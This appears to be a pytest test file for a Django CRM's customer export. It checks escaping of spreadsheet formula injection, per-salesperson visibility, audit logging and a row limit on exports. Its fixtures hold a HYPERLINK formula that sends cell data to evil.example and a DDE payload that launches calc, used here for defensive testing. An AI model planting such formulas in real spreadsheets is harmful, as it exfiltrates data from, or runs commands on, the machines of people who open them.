"""Customer exports: formula injection neutralised, visibility respected, salesperson limit, audit."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.test import Client
from python_calamine import CalamineWorkbook

from laoke.accounts.models import RoleChoices, User
from laoke.audit.models import AuditAction, AuditEvent
from laoke.customers.models import AccessPolicy
from tests.web import factories as f

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/steal?d="&B2,"Invoice")'


@pytest.fixture
def people() -> dict[str, User]:
    """Two salespeople and a manager; each salesperson owns customers with hostile names."""
    return {
        "s1": f.user("s1"),
        "s2": f.user("s2"),
        "boss": f.user("boss", role=RoleChoices.MANAGER),
    }


def client_for(user: User) -> Client:
    """A client logged in as ``user``, reading English."""
    c = Client()
    c.force_login(user)
    c.cookies["django_language"] = "en"
    return c


def test_xlsx_export_neutralises_formula_payload(people: dict[str, User]) -> None:
    """A customer named like a formula comes out as text with an apostrophe, with no formula cell."""
    f.customer(PAYLOAD, owner=people["s1"], country="DE", notes="@SUM(1)")
    f.customer("+cmd|' /C calc'!A0", owner=people["s1"])
    response = client_for(people["s1"]).get("/customers/export.xlsx")
    assert response.status_code == 200
    data = response.content
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    table = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    names = sorted(row[1] for row in table[1:])
    assert names == sorted(["'" + PAYLOAD, "'+cmd|' /C calc'!A0"])


def test_csv_export_neutralises_and_respects_visibility(people: dict[str, User]) -> None:
    """The CSV holds only the salesperson's own customers, every formula cell prefixed."""
    f.customer(PAYLOAD, owner=people["s1"])
    f.customer("Secret of s2", owner=people["s2"])
    response = client_for(people["s1"]).get("/customers/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["'" + PAYLOAD]
    assert "Secret of s2" not in response.content.decode("utf-8-sig")


def test_export_is_audited_with_rows(people: dict[str, User]) -> None:
    """Each export leaves an audit event naming who, what and how many rows."""
    for i in range(3):
        f.customer(f"Mine {i}", owner=people["s1"])
    client_for(people["s1"]).get("/customers/export.xlsx")
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert (event.user, event.target, event.rows) == (people["s1"], "customers", 3)


def test_salesperson_bulk_export_over_limit_is_refused_and_logged(people: dict[str, User]) -> None:
    """Over the policy limit a salesperson gets no file, a message, and an audit event; a manager may."""
    AccessPolicy.objects.create(pk=1, export_row_limit=2)
    for i in range(3):
        f.customer(f"Mine {i}", owner=people["s1"])
    sales = client_for(people["s1"])
    response = sales.get("/customers/export.xlsx", follow=True)
    assert response["Content-Type"].startswith("text/html")
    assert "Export refused: 3 rows is more than the 2" in response.content.decode()
    refused = AuditEvent.objects.get(action=AuditAction.EXPORT_REFUSED)
    assert (refused.user, refused.rows, refused.detail) == (people["s1"], 3, {"limit": 2})
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT).exists()
    ok = client_for(people["boss"]).get("/customers/export.xlsx")
    assert ok.status_code == 200 and ok["Content-Type"].startswith("application/vnd.openxmlformats")
